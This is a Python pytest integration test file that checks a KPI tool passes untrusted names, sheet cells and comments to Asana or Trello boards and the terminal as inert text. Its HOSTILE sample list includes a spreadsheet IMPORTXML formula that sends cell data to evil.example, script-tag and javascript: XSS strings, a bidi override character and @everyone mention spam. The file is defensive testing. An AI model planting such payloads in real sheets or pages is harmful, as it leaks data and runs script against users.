"""Text from people and sources is data: through the file, the sheet and comments, to both boards and the terminal."""

from __future__ import annotations

import json
import re
import unicodedata
from datetime import date, timedelta
from pathlib import Path
from typing import Any

import pytest
from markdown_it import MarkdownIt
from rich.cells import cell_len

from connectors.sandbox.server import Sandbox
from tests.integration.numbers_team import ENVIRONMENT, Counters, command
from tests.integration.team import MONDAY, Clock

HOSTILE = [
    '=IMPORTXML("http://evil.example/?q=" & A1, "//a")',
    "<script>alert(1)</script>",
    "a ]]> b <![CDATA[ c",
    "[click me](https://evil.example/x) ![p](https://evil.example/p.png)",
    "@everyone @board @thandim #channel",
    "*bold* _it_ `code` ~~gone~~ # head > quote | a | b |",
    "مبيعات الموقع \u202eevil\u202c שלום",
    "Visits 🚀👩‍👩‍👧‍👦 é̂ 中文",
    "&lt;b&gt; &amp; </body><a href='javascript:alert(1)'>x</a>",
    "alignd accept until 31 Dec 2030: quiet",
    "javascript:alert(1) https://evil.example/auto www.evil.example",
    "x" * 20_000,
    "\\[not\\](escaped) \\<b>",
]
KEYS = [f"k{n}" for n in range(len(HOSTILE))]


def quoted(text: str) -> str:
    return json.dumps(text, ensure_ascii=False)


def the_file(team: Counters) -> None:
    """Each hostile text as a KPI's name and definition, a channel's name, a goal's title and a person's name."""
    team.kpis = "".join(
        f"\n  {key}: {{name: {quoted(text)}, definition: {quoted(text)}, owner: thandi, data_owner: johan,"
        f" period: week, target: 1000, breakdown: sessionSource, value: {{source: web, metric: sessions}}}}"
        for key, text in zip(KEYS, HOSTILE, strict=True)
    )
    goals = ", ".join(
        f"{{id: g{key}, title: {quoted(text)}, owner: neo, kpis: [{key}]}}"
        for key, text in zip(KEYS, HOSTILE, strict=True)
    )
    team.rest = f"\npolicy: {{max_open: 100}}\ngoals: [{goals}]\n"
    team.tracker_keys = "new_at_most: 500"
    for n in range(1, 100):
        day = MONDAY - timedelta(days=n)
        team.web.record(day, {"sessions": 5})
        team.web.record(day, {"sessions": 5}, where={"sessionSource": HOSTILE[n % len(HOSTILE)]})


@pytest.fixture(params=["asana", "trello"])
def hostile(request: pytest.FixtureRequest, tmp_path: Path, sandbox: Sandbox, clock: Clock) -> Counters:
    team = Counters(tmp_path, sandbox, clock, tracker=request.param)
    the_file(team)
    text = team.text
    team.text = lambda: text().replace("name: Neo Khumalo", f"name: {quoted(HOSTILE[1])}")  # type: ignore[method-assign]
    return team


def seen_as(text: str) -> str:
    """A text as it can be compared: composed, blanks evened, invisible marks of direction left out."""
    kept = "".join(one for one in unicodedata.normalize("NFC", text) if unicodedata.category(one) not in ("Cf", "Cc"))
    return " ".join(kept.split())


def test_hostile_names_reach_the_board_as_they_are_and_as_nothing_else(hostile: Counters) -> None:
    hostile.at("2026-11-18T08:00").sync()

    assert not hostile.reports[-1].problems
    assert len(hostile.ids()) == len(HOSTILE)
    for step in hostile.created():
        text = HOSTILE[KEYS.index(step.subject)]
        title, notes = written(hostile, step.key)
        if len(text) < 200:
            assert seen_as(text)[:40] in seen_as(title)
            assert seen_as(text) in seen_as(notes), notes
        assert len(title) <= 255
        assert len(notes) < 16_384
        assert notes.rstrip().splitlines()[-1].endswith(step.key)
    again = hostile.later(hours=1).sync()
    assert [one for one in again.steps if one.outcome.value != "waiting"] == []
    assert again.seen == ()


def written(team: Counters, key: str) -> tuple[str, str]:
    """Title and notes as a person reads them; nothing in them is live."""
    if team.tracker == "asana":
        task = next(one for one in team.tasks() if one.notes.rstrip().endswith(key))
        assert "<script" not in task.html
        assert "evil.example" not in "".join(part.split(">", 1)[0] for part in task.html.split("<a ")[1:])
        return task.name, task.notes
    card = next(one for one in team.cards() if one.desc.rstrip().endswith(key))
    assert re.search(r"(?<![\w\\])@(everyone|board|thandim)", card.desc) is None  # Trello would tell them
    return card.name, read(card.desc)


def read(markdown: str) -> str:
    """Markdown as it is shown, as text; it must hold no html, no picture, no link and no mention."""
    words: list[str] = []
    for token in MarkdownIt("commonmark").enable(["strikethrough", "table"]).parse(markdown):
        assert token.type not in ("html_block", "table_open", "blockquote_open"), token.content
        for child in token.children or []:
            assert child.type not in ("html_inline", "image", "s_open"), child.content
            if child.type == "link_open":
                assert "evil" not in str(child.attrs), child.attrs
            words.append("\n" if child.type in ("softbreak", "hardbreak") else child.content)
        if token.type in ("fence", "code_block"):
            words.append(token.content)
        words.append("\n" if token.type.endswith("_close") else "")
    return "".join(words)


def test_what_stands_in_the_sheet_and_what_people_write_is_no_command_and_no_markup(hostile: Counters) -> None:
    hostile.kpis = (
        "\n  opens: {name: Opens, owner: thandi, data_owner: johan, period: week, target: 10, late_after: 2d, "
        'value: {source: scorecard, table: "Mail!A:B", date: Date, column: Opens, aggregate: sum}}'
        "\n  visits: {name: Visits, owner: thandi, data_owner: johan, period: week, target: 1000, "
        "value: {source: web, metric: sessions}}"
    )
    hostile.rest = "\npolicy: {no_data_after: 1}\n"
    rows: list[list[Any]] = [[MONDAY - timedelta(days=4 + 7 * n), 50] for n in range(1, 15)]
    rows += [[MONDAY - timedelta(days=4), HOSTILE[1] + HOSTILE[3]], [date(2026, 11, 17), 5]]
    hostile.sheet.add_tab("Mail", [["Date", "Opens"], *rows])
    hostile.at("2026-11-20T08:00").sync()
    keys = {one.work.value: one.key for one in hostile.created()}
    assert set(keys) == {"action", "data"}
    assert "<script>" in written(hostile, keys["data"])[1]

    item = next(one.task for one in hostile.reports[-1].steps if one.key == keys["action"])
    assert item is not None
    for text in HOSTILE:
        if not text.startswith("alignd"):
            hostile.person().comment(item, text[:5000])
    hostile.person().comment(item, "alignd wrong: <script>alert(1)</script> ]]> [x](https://evil.example) @everyone")
    hostile.later(minutes=30).sync()

    doubts = [one for one in hostile.created() if one.reason.value == "no_data"]
    assert len(doubts) == 1
    assert "<script>alert(1)</script>" in written(hostile, doubts[0].key)[1]
    assert [one for one in hostile.did() if one[0] == "comment"] == [("comment", "answer", "visits")]
    hostile.later(minutes=30).sync()
    assert hostile.did() == []


def test_the_terminal_stays_sane_at_eighty_columns(
    hostile: Counters, capsys: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name, value in {**ENVIRONMENT, "COLUMNS": "80"}.items():
        monkeypatch.setenv(name, value)
    hostile.at("2026-11-18T08:00")
    hostile.file.write_text(hostile.text())
    at = ("-c", str(hostile.file), "--at", "2026-11-18T08:00")

    printed = [command(capsys, "plan", *at), command(capsys, "sync", *at)]
    printed += [command(capsys, *words, "-c", str(hostile.file)) for words in (("status",), ("history", "k3"))]
    printed += [command(capsys, "why", "k1", *at), command(capsys, "status", "--goals", "-c", str(hostile.file))]

    for text in printed:
        assert not any(unicodedata.category(one) in ("Cc", "Cf") for one in text if one not in "\n‍"), text
        assert all(cell_len(line) <= 80 for line in text.splitlines()), max(text.splitlines(), key=cell_len)
        assert text.count("x") < 5_000  # a name of 20,000 characters fills no screens
    assert "<script>" in printed[0]
